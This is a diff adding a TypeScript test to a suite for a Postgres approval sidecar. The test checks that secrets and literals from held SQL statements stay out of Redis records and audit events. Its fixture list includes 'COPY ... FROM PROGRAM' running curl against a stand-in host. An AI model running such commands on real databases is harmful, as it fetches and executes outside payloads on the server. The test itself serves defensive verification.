@@ -208,6 +208,42 @@ describe('approval attacks against a real sidecar', () => {
     }
   });
 
+  const LEAKY: readonly (readonly [string, readonly string[]])[] = [
+    ["CREATE SERVER leak_srv FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'leak-host.internal', password 'leak-pw-1')", ['leak-host.internal', 'leak-pw-1']],
+    ["COPY invoices FROM PROGRAM 'curl https://leak.example/payload'", ['leak.example', 'curl']],
+    ["ALTER SYSTEM SET work_mem = '777MB'", ['777MB']],
+    ["COMMENT ON TABLE invoices IS 'leak-comment-secret'", ['leak-comment-secret']],
+    ["PREPARE leak_p AS SELECT 'leak-prepared-lit', 987654", ['leak-prepared-lit', '987654']],
+    ["EXECUTE leak_p('leak-executed-lit')", ['leak-executed-lit']],
+  ];
+
+  it('no literal of a statement normalize leaves constants in reaches Redis or the audit log', async () => {
+    const name = uniqueName('literals');
+    const client = await connect(name, stack.postgres.database);
+    const ids: string[] = [];
+    try {
+      for (const [sql] of LEAKY) {
+        const error = await refusal(client, sql);
+        assert.equal(error.code, '57014', `${sql}: ${error.message}`);
+        const id = /request (ar-[a-z2-7]{12}) is pending/.exec(error.message)?.[1];
+        assert.ok(id !== undefined, error.message);
+        ids.push(id);
+      }
+    } finally {
+      await client.end();
+    }
+    const records = (await Promise.all(ids.map((id) => redis.get(requestKey(id))))).join('\n');
+    const events = byReason(await waitForEvents(stack.spoolDir, (all) => byReason(all, name).filter((e) => e.event_type === 'approval.requested' && e.outcome === 'unknown').length >= LEAKY.length), name);
+    const trail = JSON.stringify(events);
+    assert.ok(events.some((e) => e.command?.text.startsWith('CREATE SERVER') === true), 'the audit events carry the command text');
+    for (const [, literals] of LEAKY) {
+      for (const literal of literals) {
+        assert.ok(!records.includes(literal), `${literal} in a Redis request record`);
+        assert.ok(!trail.includes(literal), `${literal} in an audit event`);
+      }
+    }
+  });
+
   it('a policy reloaded during a hold is decided again: a statement now denied does not run', async () => {
     const name = uniqueName('redecide');
     const client = await connect(name, stack.postgres.database);
